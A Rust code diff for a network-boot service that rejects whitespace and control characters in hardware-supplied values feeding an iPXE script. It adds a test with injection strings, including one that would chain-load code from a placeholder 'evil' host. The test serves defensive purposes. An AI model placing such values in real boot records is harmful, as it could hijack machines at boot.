@@ -266,12 +266,15 @@ fn hookos_arch(iface: Option<&tinker_core::model::Interface>) -> &'static str {
 /// tink-agent then names itself), else the MAC, as Smee does.
 fn worker_id(hw: &Hardware, mac: MacAddr) -> String {
     match hw.spec.extra.get("agentID").and_then(|v| v.as_str()) {
-        // A space would split the kernel line's word.
-        Some(id) if !id.is_empty() && !id.chars().any(|c| c.is_whitespace() || c.is_control()) => {
-            id.to_string()
-        }
+        Some(id) if !id.is_empty() && is_word(id) => id.to_string(),
         _ => mac.to_string(),
     }
+}
+
+/// Whether a Hardware's value can stand in one kernel-line word: a space would
+/// split it, and a line break would start another iPXE command.
+fn is_word(value: &str) -> bool {
+    !value.chars().any(|c| c.is_whitespace() || c.is_control())
 }
 
 /// The value of `facility=`: the Hardware's `metadata.facility.facility_code`
@@ -283,6 +286,7 @@ fn facility(hw: &Hardware) -> String {
         .and_then(|m| m.extra.get("facility"))
         .and_then(|f| f.get("facility_code"))
         .and_then(|c| c.as_str())
+        .filter(|c| is_word(c))
         .unwrap_or_default()
         .to_string()
 }
@@ -298,7 +302,7 @@ pub fn hookos_kernel_args(hw: &Hardware, mac: MacAddr, osie: &OsieConfig) -> Vec
     if let Some(vlan) = iface
         .and_then(|i| i.dhcp.as_ref())
         .and_then(|d| d.vlan_id.as_deref())
-        .filter(|v| !v.is_empty())
+        .filter(|v| !v.is_empty() && is_word(v))
     {
         args.push(format!("vlan_id={vlan}"));
     }
@@ -659,6 +663,31 @@ mod tests {
         ] {
             assert!(script.contains(want), "no {want:?} in:\n{script}");
         }
+    }
+
+    #[test]
+    fn hardware_values_cannot_split_the_kernel_line_or_the_script() {
+        let mut hw = tinkerbell_hardware();
+        hw.spec.extra.insert(
+            "agentID".into(),
+            serde_json::from_value(serde_json::json!("a b\nshell")).unwrap(),
+        );
+        hw.spec.metadata = Some(
+            serde_json::from_value(
+                serde_json::json!({"facility": {"facility_code": "x\nchain http://evil/"}}),
+            )
+            .unwrap(),
+        );
+        hw.spec.interfaces[0].dhcp.as_mut().unwrap().vlan_id = Some("16 evil=1".into());
+        let script = script(&hw, MAC, &hookos_config(), None);
+        assert!(
+            !script.contains("evil") && !script.contains("\nshell"),
+            "{script}"
+        );
+        let args = kernel_line(&script);
+        assert!(args.contains(&"worker_id=3c:ec:ef:4c:4f:54"), "{args:?}");
+        assert!(args.contains(&"facility="), "{args:?}");
+        assert!(!args.iter().any(|a| a.starts_with("vlan_id=")), "{args:?}");
     }
 
     #[test]
